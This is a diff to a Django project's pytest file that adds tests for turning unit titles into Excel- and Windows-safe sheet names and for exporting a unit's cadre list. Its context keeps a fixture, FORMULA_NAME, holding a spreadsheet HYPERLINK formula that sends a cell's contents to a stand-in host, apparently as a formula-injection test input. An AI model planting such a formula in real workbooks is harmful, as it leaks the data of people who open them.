@@ -9,9 +9,9 @@ import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from core.excel import SheetTitle, read_xlsx_rows, template_response, write_xlsx
+from core.excel import SheetTitle, office_name, read_xlsx_rows, template_response, write_xlsx
 from core.formats import hours_text, yuan_text
-from tests.factories import CadreFactory
+from tests.factories import CadreFactory, UnitFactory
 
 FORMULA_NAME = '=HYPERLINK("http://example.invalid/?d="&E2,"查看")'
 
@@ -131,3 +131,29 @@ def test_hours_show_without_a_trailing_zero(value, text):
 )
 def test_money_shows_yuan_and_thousands(value, text):
     assert yuan_text(value) == text
+
+
+@pytest.mark.parametrize(
+    ("title", "name"),
+    [
+        ("党政办/综治办", "党政办_综治办"),
+        ("茹龙镇:便民服务中心", "茹龙镇_便民服务中心"),
+        ('a\\b*c?d"e<f>g|h[i]', "a_b_c_d_e_f_g_h_i_"),
+        ("'干部名册'", "干部名册"),
+        ("\x07", "数据"),
+    ],
+)
+def test_a_title_becomes_a_name_excel_and_windows_accept(title, name):
+    assert office_name(title) == name
+
+
+@pytest.mark.django_db
+def test_a_unit_whose_name_excel_forbids_in_a_sheet_name_still_exports(as_user, org_staff, county):
+    unit = UnitFactory(name="党政办/综治办", parent=county["organ"])
+    CadreFactory(unit=unit, name="扎西")
+
+    response = as_user(org_staff).get(reverse("cadres:unit_detail", args=[unit.pk]), {"export": "xlsx"})
+
+    assert response.status_code == 200
+    assert "%E5%85%9A%E6%94%BF%E5%8A%9E_%E7%BB%BC%E6%B2%BB%E5%8A%9E_" in response["Content-Disposition"]
+    assert load_workbook(io.BytesIO(response.content)).sheetnames == ["党政办_综治办"]
